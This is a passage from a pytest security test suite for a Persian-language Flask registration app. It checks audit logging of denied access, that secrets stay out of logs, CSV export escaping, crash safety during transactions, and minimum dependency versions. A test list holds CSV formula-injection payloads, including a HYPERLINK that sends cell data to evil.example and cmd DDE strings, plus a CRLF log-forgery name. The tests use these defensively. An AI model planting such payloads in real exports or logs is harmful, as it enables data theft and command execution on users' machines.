    world.clients["reviewer_b"].get(f"/admin/qualification/review/?id={world['qa']}")  # 404: another university
    world.clients["reviewer_b"].get("/admin/officer/")  # 403: directorate only
    world.clients["officer"].get(f"/officer/documents/{world['doc_qq']}")  # 404: another officer's document
    denials = list(models.AuditLog.select().where((models.AuditLog.id > 0) & models.AuditLog.action.contains("denied")))
    assert models.AuditLog.select().count() >= before + 3
    assert len(denials) >= 3
    assert {d.actor_id for d in denials} >= {world["reviewer_b"], world["officer_a"]}
    assert all(d.ip and d.at for d in denials)


def test_no_password_or_national_code_in_logs_and_crlf_neutralised(app, make_officer, make_staff, dbc, caplog):
    # The application's loggers at DEBUG, everything else at INFO (peewee logs every query
    # with its parameters at DEBUG: that level must never be enabled in production).
    caplog.set_level(logging.INFO)
    caplog.set_level(logging.DEBUG, logger=app.logger.name)
    secret_password = "Yek-Ramz-Kheili-Mahramaneh-77"
    client = app.test_client()
    data = registration_data(
        national_code="0790419904", password=secret_password, password_confirm=secret_password, mobile="09351239876"
    )
    assert client.post("/officer/register", data=data).status_code == 200
    officer = models.Officer.get(models.Officer.national_code == "0790419904")
    login(client, "/officer/login", "0790419904", "Wrong-" + secret_password)
    login(client, "/officer/login", "0790419904", secret_password)
    client.post(
        "/officer/password",
        data={
            "current_password": secret_password,
            "new_password": secret_password + "x",
            "new_password_confirm": secret_password + "x",
        },
    )
    app.test_client().post("/officer/password/reset", data={"username": "0790419904"})
    login(app.test_client(), "/admin/login", "0790419904", secret_password)
    # A name with CR/LF cannot forge an audit line.
    models.Officer.update(first_name="مریم\r\n2024-01-01 login admin").where(models.Officer.id == officer.id).execute()
    login(app.test_client(), "/officer/login", officer.user_code, secret_password + "x")
    text = "\n".join(caplog.messages + [str(r.exc_text or "") for r in caplog.records])
    rows = list(models.AuditLog.select().tuples())
    audit_text = "\n".join(repr(r) for r in rows)
    for secret in (secret_password, "0790419904", "۰۷۹۰۴۱۹۹۰۴"):
        assert secret not in text, secret
        assert secret not in audit_text, secret
    assert all("\r" not in str(v) and "\n" not in str(v) for r in rows for v in r)


# ---------------------------------------------------------------------- 32: exports

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"بزنید")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
    "\u200f=1+1",
    "\u200e+1",
]


def test_exports_are_formula_safe_with_bom_persian_and_no_secret_columns(app, make_officer, make_staff, dbc):
    officers = []
    for value in DANGEROUS:
        officer = make_officer()
        models.Officer.update(first_name=value, last_name="محمدی‌نژاد").where(models.Officer.id == officer.id).execute()
        officers.append(officer)
    director_staff = make_staff("directorate")
    director = staff_client_for(app, director_staff)
    actor = director_staff.as_actor()
    models.send_notice(actor, DANGEROUS[0], "متن", "all")
    distributor = models.create_distributor("pakhsh", PASSWORD, "شرکت سلامت", "company", "09121110000")
    models.Distributor.update(name=DANGEROUS[1], manager_name=DANGEROUS[6]).execute()
    tehran = models.City.get(models.City.name == "تهران")
    models.Branch.create(
        distributor=distributor,
        name=DANGEROUS[2],
        province=tehran.province,
        city=tehran,
        address="تهران، خیابان انقلاب، پلاک ۱",
    )
    models.audit(actor, "test_action", detail=DANGEROUS[3])

    def rows(view):
        response = director.get(f"/admin/{view}/export/csv/")
        assert response.status_code == 200
        assert response.headers["Content-Disposition"].startswith("attachment")
        assert response.headers["Content-Type"].startswith("text/csv")
        raw = response.get_data()
        assert raw.startswith("\ufeff".encode()), view
        text = raw.decode("utf-8")
        assert "$argon2" not in text and "password" not in text.lower(), view
        return list(csv.reader(io.StringIO(text[1:])))

    def cells(table):
        return [cell for row in table[1:] for cell in row]

    officer_rows = rows("officer")
    exported = cells(officer_rows)
    for value in DANGEROUS:
        assert "'" + value in exported, repr(value)
    assert "محمدی‌نژاد" in exported  # Persian (with its ZWNJ) round-trips
    header = officer_rows[0]
    assert not any("hash" in h.lower() or "گذرواژه" in h for h in header)
    for cell in exported:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\u200f", "\u200e")), repr(cell)
    for view, value in (
        ("message", DANGEROUS[0]),
        ("distributor", DANGEROUS[1]),
        ("distributor", DANGEROUS[6]),
        ("branch", DANGEROUS[2]),
        ("audit", DANGEROUS[3]),
    ):
        exported = cells(rows(view))
        assert "'" + value in exported, (view, value)
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r", "\u200f")) for c in exported), view
    staff_rows = rows("staff")
    assert not any("hash" in h.lower() for h in staff_rows[0])


# ---------------------------------------------------------------------- 38: a killed worker

SLOW_APP = r"""
import os, sys, time
sys.path.insert(0, {root!r})
from app import create_app
import models
from flask import request
app = create_app({{"DATABASE_URL": {url!r}, "UPLOAD_DIR": {upload!r}, "SECRET_KEY": "k",
                   "SEED_DEMO_DATA": False, "SMS_DELIVER_IN_BACKGROUND": False, "WTF_CSRF_ENABLED": False}})

@app.route("/__test/write", methods=["POST"])
def write():
    key = request.form["key"]
    with models.db.atomic():
        models.AuditLog.create(actor_kind="system", action="crash-test", detail=key)
        models.Officer.update(father_name=key).where(models.Officer.id == -1).execute()
        if request.form.get("hold"):
            open({flag!r}, "w").write(str(os.getpid()))
            time.sleep(60)
    return "ok"
"""


def _free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _post(url, data, timeout=10):
    body = "&".join(f"{k}={v}" for k, v in data.items()).encode()
    return urllib.request.urlopen(urllib.request.Request(url, data=body, method="POST"), timeout=timeout)


def test_sigkill_of_a_gunicorn_worker_mid_transaction(app, dbc, tmp_path):
    """Checklist 38: the killed worker's transaction leaves nothing; the database is intact;
    the retried request writes exactly one row."""
    gunicorn = Path(sys.executable).parent / "gunicorn"
    if not gunicorn.exists():
        pytest.skip("gunicorn is not installed")
    url = app.config["DATABASE_URL"]
    flag = tmp_path / "inside"
    (tmp_path / "slow_app.py").write_text(
        SLOW_APP.format(root=str(ROOT), url=url, upload=str(tmp_path / "docs"), flag=str(flag))
    )
    port = _free_port()
    server = subprocess.Popen(
        [
            str(gunicorn),
            "--workers",
            "1",
            "--bind",
            f"127.0.0.1:{port}",
            "--timeout",
            "120",
            "--chdir",
            str(tmp_path),
            "slow_app:app",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.time() + 30
        while time.time() < deadline:
            try:
                urllib.request.urlopen(base + "/verify", timeout=2)
                break
            except (urllib.error.URLError, ConnectionError, OSError):
                time.sleep(0.2)
        else:
            pytest.fail("gunicorn did not start: " + server.stderr.read1(4000).decode(errors="replace"))
        outcome = {}

        def slow():
            try:
                outcome["response"] = _post(base + "/__test/write", {"key": "killed", "hold": "1"}, timeout=30).status
            except Exception as error:  # the connection is cut by the kill
                outcome["error"] = repr(error)

        thread = threading.Thread(target=slow)
        thread.start()
        deadline = time.time() + 20
        while not flag.exists() and time.time() < deadline:
            time.sleep(0.05)
        assert flag.exists(), "the slow request never reached its transaction"
        worker = int(flag.read_text())
        assert worker != server.pid
        os.kill(worker, signal.SIGKILL)
        thread.join(30)
        assert "response" not in outcome
        # The master starts a new worker; the client retries while the port refuses. Once the
        # master accepts, the request waits for the new worker (seconds on a busy machine):
        # a short timeout would send it twice.
        deadline = time.time() + 30
        while True:
            try:
                assert _post(base + "/__test/write", {"key": "retried"}, timeout=120).status == 200
                break
            except (urllib.error.URLError, ConnectionError, OSError):
                if time.time() > deadline:
                    raise
                time.sleep(0.2)
    finally:
        server.send_signal(signal.SIGTERM)
        try:
            server.wait(timeout=20)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()
        server.stderr.close()
    rows = models.AuditLog.select().where(models.AuditLog.action == "crash-test")
    assert [r.detail for r in rows] == ["retried"]
    if models.is_sqlite():
        assert models.db.execute_sql("PRAGMA integrity_check").fetchone()[0] == "ok"
    assert models.Officer.select().where(models.Officer.father_name == "killed").count() == 0


# ---------------------------------------------------------------------- 31: dependencies

MINIMUM_VERSIONS = {"flask": "3.1.3", "werkzeug": "3.1.6", "flask-admin": "1.5.3"}


def test_dependencies_meet_the_minimum_safe_versions():
    """pip-audit cannot reach a vulnerability database from here (see SECURITY.md), so the
    versions with the known fixes are pinned as minimums and checked."""
    import tomllib
    from importlib.metadata import version

    from packaging.version import Version

    declared = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]
    for name, minimum in MINIMUM_VERSIONS.items():
        assert Version(version(name)) >= Version(minimum), (name, version(name))
        spec = next(d for d in declared if re.split(r"[\[<>=!~ ]", d, maxsplit=1)[0].lower() == name)
        pinned = re.search(r">=\s*([\d.]+)", spec)
        assert pinned and Version(pinned.group(1)) >= Version(minimum), spec
